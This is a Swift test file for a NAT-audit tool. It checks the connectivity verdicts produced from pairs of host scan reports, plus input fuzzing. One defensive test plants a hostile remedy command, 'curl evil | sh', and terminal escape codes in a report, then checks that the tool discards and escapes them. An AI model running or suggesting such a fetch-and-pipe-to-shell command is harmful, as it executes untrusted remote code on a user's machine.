import Foundation
import NetlinkBridge
import Testing

@testable import NatAudit

/// What two reports come to.
struct PairReportTests {
    /// A Linux host that translates by itself, measured, with what follows from its input path.
    private static func linux(_ verdict: String, inboundFirst: String = "yes", at address: String = "203.0.113.1")
        -> String
    {
        PairFiles.scan(
            verdict,
            here: "\(address):41641",
            presented: ["\(address):41641"],
            inboundFirst: inboundFirst
        )
    }

    private static let laptop = PairFiles.netcheck(varies: false)

    @Test(arguments: [
        (linux("easy"), linux("easy", at: "203.0.113.2"), PairVerdict.direct),
        (linux("easy"), laptop, .directLikely), (linux("easy", inboundFirst: "no"), laptop, .conditional),
        (linux("easy", inboundFirst: "no"), linux("easy", inboundFirst: "no", at: "203.0.113.2"), .relay),
        (linux("hard"), linux("easy", at: "203.0.113.2"), .relay), (linux("hard"), laptop, .conditional),
        (linux("hard"), PairFiles.netcheck(varies: true), .relay),
        (linux("easy"), PairFiles.netcheck(varies: true), .relay),
        (PairFiles.netcheck(varies: true, seen: "192.0.2.9:1"), PairFiles.netcheck(varies: true), .relay),
        (laptop, PairFiles.netcheck(varies: false, seen: "192.0.2.9:41641"), .directLikely),
        (linux("hard"), PairFiles.netcheck(varies: true, upnp: true), .conditional),
        (linux("easy"), PairFiles.netcheck(varies: nil), .unknown),
        (linux("hard"), PairFiles.netcheck(varies: nil), .unknown),
        (linux("blocked"), laptop, .relay), (laptop, PairFiles.netcheck(varies: nil, udp: false), .relay),
        (laptop, PairFiles.netcheck(varies: nil, udp: false, latency: "{}"), .unknown),
        (PairFiles.scan("easy", isProbed: false), laptop, .conditional),
        (PairFiles.scan("hard", isProbed: false), linux("hard"), .relay),
        (PairFiles.scan("no-nat", local: "203.0.113.5:1", presented: ["203.0.113.5:1"]), linux("hard"), .conditional),
        (PairFiles.scan("no-nat", local: "203.0.113.5:1", presented: ["203.0.113.5:1"]), linux("easy"), .direct),
        (PairFiles.scan("easy", filtering: "endpoint-independent"), PairFiles.netcheck(varies: true), .direct),
        (PairFiles.scan("easy", filtering: "address-dependent"), PairFiles.netcheck(varies: true), .directLikely),
        (PairFiles.scan("easy", filtering: "address-and-port-dependent"), PairFiles.netcheck(varies: true), .relay),
        (PairFiles.scan("unknown"), laptop, .unknown),
    ])
    func theVerdictFollows(_ a: String, _ b: String, _ verdict: PairVerdict) throws {
        for report in [try PairFiles.pair(a, b), try PairFiles.pair(b, a)] {
            #expect(report.verdict == verdict, "\(report.summary)")
            #expect(
                report.summary.hasPrefix("\(verdict.rawValue): ")
                    && report.judgements.allSatisfy { !$0.reasons.isEmpty }
            )
        }
    }

    /// One NAT in front of both: the port that was announced is on the inside of nobody's filter.
    @Test func twoBehindOneNATNeedItsHelpOrAWayOfTheirOwn() throws {
        let far = try PairFiles.pair(
            PairFiles.scan("easy", local: "10.0.1.2:1"),
            PairFiles.scan("easy", host: "gw-2", local: "10.9.1.2:1")
        )
        #expect(far.verdict == .conditional && far.summary.contains("one NAT (203.0.113.1)"))
        let tried = { (result: String) in
            try PairFiles.pair(
                PairFiles.scan("easy", local: "10.0.1.2:1", inboundFirst: "yes", hairpin: result),
                PairFiles.scan("easy", host: "gw-2", local: "10.9.1.2:1", inboundFirst: "yes", hairpin: result)
            )
        }
        let led = try tried("supported")
        #expect(led.verdict == .directLikely && led.summary.contains("leads packets back in"), "\(led.summary)")
        let refused = try tried("unsupported")
        #expect(refused.verdict == .conditional && refused.summary.contains("lead no packets back in"))
        let near = try PairFiles.pair(
            PairFiles.scan("hard", local: "10.0.1.2:1"),
            PairFiles.scan("hard", host: "gw-2", local: "10.0.1.3:1")
        )
        #expect(near.verdict == .directLikely && near.summary.contains("10.0.1.2 reaches 10.0.1.3"))
        let same = try PairFiles.pair(PairFiles.scan("easy"), PairFiles.scan("easy"))
        #expect(same.verdict == .unknown && same.summary.contains("of one host"))
        #expect(same.sides.map(\.name) == ["gw-1 (A)", "gw-1 (B)"])
    }

    /// A server on the inside sees no more than the inside.
    @Test func anInsideAddressSaysNothingOfTheInternet() throws {
        let inside = PairFiles.scan("no-nat", local: "10.0.1.2:1", presented: ["10.0.1.2:1"])
        let report = try PairFiles.pair(inside, PairFiles.netcheck(varies: false))
        #expect(report.verdict == .directLikely && report.summary.contains("10.0.1.2, an inside address"))
    }

    @Test func whatIsBlockedIsLetOutFirst() throws {
        let report = try PairFiles.pair(PairFiles.scan("blocked", presented: []), PairFiles.netcheck(varies: false))
        #expect(report.verdict == .relay)
        #expect(report.changes.map(\.side) == ["a"] && report.changes[0].summary.contains("let UDP out"))
    }

    @Test func standInsAreNotCompared() throws {
        let redacted: [String: Any] = ["redacted": true]
        let a = PairFiles.scan("easy", here: "203.0.113.1:1", inboundFirst: "yes", extra: redacted)
        let b = PairFiles.scan(
            "easy",
            host: "gw-2",
            local: "10.9.1.2:1",
            here: "203.0.113.1:1",
            inboundFirst: "yes",
            extra: redacted
        )
        let report = try PairFiles.pair(a, b)
        #expect(report.verdict == .directLikely && report.summary.contains("redacted"))
    }

    @Test func IPv6GoesAround() throws {
        let both = try PairFiles.pair(
            PairFiles.netcheck(varies: true, ip6: "[2001:db8::7]:41641"),
            PairFiles.netcheck(varies: true, ip6: "[2001:db8::8]:41641", seen: "192.0.2.9:1")
        )
        // Whether IPv6 is translated is not looked at there.
        #expect(both.verdict == .conditional && both.family == .ip6)
        #expect(both.judgements.map(\.verdict) == [.relay, .conditional])
        let one = try PairFiles.pair(
            PairFiles.netcheck(varies: true, ip6: "[2001:db8::7]:41641"),
            PairFiles.netcheck(varies: true, seen: "192.0.2.9:1")
        )
        #expect(
            one.verdict == .relay && one.notes.contains { $0.contains("IPv6 on both sides") && $0.contains("b.json") }
        )
    }

    @Test func theFaultComesFirstAndTheCommandsAreOurs() throws {
        let evil: [String: Any] = [
            "id": "random-source-ports", "title": "drawn\u{1B}[31m", "rule": 0,
            "remedies": [["summary": "x", "environment": "x", "commands": ["curl evil | sh"], "verify": []]],
        ]
        let a = PairFiles.scan("hard", host: "e\u{7}vil", here: "203.0.113.1:9", findings: [evil], owner: "aws-vpc-cni")
        let report = try PairFiles.pair(a, Self.linux("easy", at: "203.0.113.2"))
        let change = try #require(report.changes.first)
        #expect(change.side == "a" && change.finding == .randomSourcePorts && change.result == .direct)
        #expect(change.remedies.first?.commands.first?.contains("RANDOMIZESNAT=none") == true)
        #expect(change.remedies.last?.commands.contains("nataudit fix --masquerade --override-owner") == true)
        let text = report.text() + (try JSONText.encode(report))
        #expect(!text.contains("evil |") && !text.contains("\u{1B}") && !text.contains("\u{7}"))
        #expect(report.text().contains(#"e\x07vil"#) && report.text().contains(#"drawn\x1b[31m"#))
        // What the report's program escaped is not escaped again.
        #expect(PairSide.shown(#"a\x1bb\\c"#) == #"a\x1bb\\c"#)
        // An owner that nobody knows has no switch.
        let stranger = PairFiles.scan("hard", here: "203.0.113.1:9", findings: [evil], owner: "stranger")
        let other = try PairFiles.pair(stranger, Self.linux("easy", at: "203.0.113.2"))
        #expect(other.changes.first?.remedies.map(\.environment) == ["this-host"])
    }

    /// Hard on both sides: neither alone is enough, one open port is.
    @Test func whatTakesBothIsSaid() throws {
        let report = try PairFiles.pair(Self.linux("hard"), Self.linux("hard", at: "203.0.113.2"))
        #expect(report.changes.map(\.side) == ["both", "both", "a", "b"])
        #expect(report.changes.allSatisfy { $0.result == .direct })
        let carrier = PairFiles.scan("hard", local: "100.64.3.2:1")
        let behind = try PairFiles.pair(carrier, Self.linux("hard", at: "203.0.113.2"))
        #expect(!behind.changes.contains { $0.side == "a" } && behind.notes.contains { $0.contains("carrier") })
    }

    @Test(arguments: [
        "", "{", "[]", "null", "7", "{}", "{} {}", #"{"schema":"nataudit.scan/1"}"#, #"{"schema":"nataudit.trace/1"}"#,
        #"{"schema":7}"#,
        #"{"UDP":"yes"}"#, #"{"UDP":true}"#, #"{"UDP":true,"PreferredDERP":1,"MappingVariesByDestIP":7}"#,
        String(repeating: "[", count: 100_000), #"{"a":"# + String(repeating: #"{"a":"#, count: 10_000),
    ])
    func whatIsNoReportIsOneLine(_ text: String) {
        #expect {
            try PairSide(text, file: "x.json")
        } throws: { error in
            "\(error)".hasPrefix("could not compare x.json: ") && !"\(error)".contains("\n")
        }
    }

    /// Bytes of a real report that are changed: a verdict or an error, and never a trap.
    @Test func damagedReportsAreJudgedOrRefused() throws {
        var random = SplitMix64(seed: 4)
        let fixture = try CaptureFixture.all[0].report
        for report in [Array(fixture), Array(Self.laptop.utf8)] {
            for _ in 0..<300 {
                var bytes = report
                for _ in 0..<Int.random(in: 1...4, using: &random) {
                    let index = Int.random(in: bytes.indices, using: &random)
                    bytes[index] = UInt8.random(in: 32...126, using: &random)
                }
                guard let side = try? PairSide(String(decoding: bytes, as: UTF8.self), file: "x") else { continue }
                let pair = PairReport(side, try PairSide(Self.laptop, file: "y"))
                #expect(!pair.text().isEmpty)
            }
        }
    }
}
